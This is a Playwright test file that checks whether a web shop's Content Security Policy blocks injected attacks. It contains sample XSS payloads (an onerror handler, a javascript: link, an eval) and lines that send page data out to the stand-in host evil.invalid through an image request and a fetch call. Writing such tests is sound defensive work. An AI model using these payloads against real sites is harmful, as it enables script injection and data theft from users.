import { signIn } from '../fixtures/sign-in';
import { expect, test } from '../fixtures/test';
import { channelUrl } from '../fixtures/urls';

type Page = Parameters<typeof signIn>[0];

test('check 21 no page of the product violates its own policy', async ({ page, customer }) => {
  // The fixture fails the test if a page reports a violation.
  await signIn(page, customer);
  for (const path of [
    '/',
    '/orders',
    '/orders?order_state=all',
    '/auth-error',
    '/enable-cookies',
  ]) {
    await page.goto(channelUrl('albora-nl', path));
    await expect(page.locator('main')).toBeVisible();
  }
});

/** Attacks by injected markup or by a hijacked script. Each sets `attacked` if it succeeds. */
const attacks: Record<string, () => void> = {
  'markup with a handler': () => {
    const markup = document.createElement('div');
    markup.innerHTML = '<img src="x:" onerror="document.documentElement.dataset.attacked = 1">';
    document.body.append(markup);
  },
  'a javascript: address': () => {
    const link = document.createElement('a');
    link.href = 'javascript:void (document.documentElement.dataset.attacked = 1)';
    document.body.append(link);
    link.click();
  },
  'an event handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'document.documentElement.dataset.attacked = "1"');
    document.body.append(button);
    button.click();
  },
  'a base address': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.invalid/';
    document.head.append(base);
    if (document.baseURI.startsWith('https://evil'))
      document.documentElement.dataset['attacked'] = '1';
  },
  'a form to another site': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.invalid/';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'a frame': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.invalid/';
    document.body.append(frame);
  },
  'an image that carries data out': () => {
    new Image().src = `https://evil.invalid/?${document.title}`;
  },
  'a call that carries data out': () => {
    void fetch('https://evil.invalid/').catch(() => undefined);
  },
  'text run as code': () => {
    // In a timer, because the policy may not apply to code that a test evaluates directly.
    setTimeout(() => (0, eval)('document.documentElement.dataset.attacked = "1"'));
  },
};

async function violationsAfter(page: Page, attack: () => void): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { seenViolations: seen });
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(event.effectiveDirective),
    );
  });
  await page.evaluate(attack);
  const read = () =>
    page.evaluate(() => (window as unknown as { seenViolations: string[] }).seenViolations); // The cast is safe: the property is set above.
  await expect.poll(read).not.toEqual([]);
  return read();
}

test.describe('injected attacks', () => {
  test.use({
    expectedComplaints: [/CSP|Content Security Policy|evil\.invalid|unsafe-eval|base-uri/i],
  });

  test('check 21 the policy stops each attack', async ({ page }) => {
    for (const [name, attack] of Object.entries(attacks))
      await test.step(name, async () => {
        await page.goto(channelUrl('albora-nl', '/auth-error'));
        await expect(page.locator('main')).toBeVisible();
        expect(await violationsAfter(page, attack)).not.toEqual([]);
        expect(
          await page.evaluate(() => document.documentElement.dataset['attacked']),
        ).toBeUndefined();
        expect(page.url()).toBe(channelUrl('albora-nl', '/auth-error'));
      });
  });
});
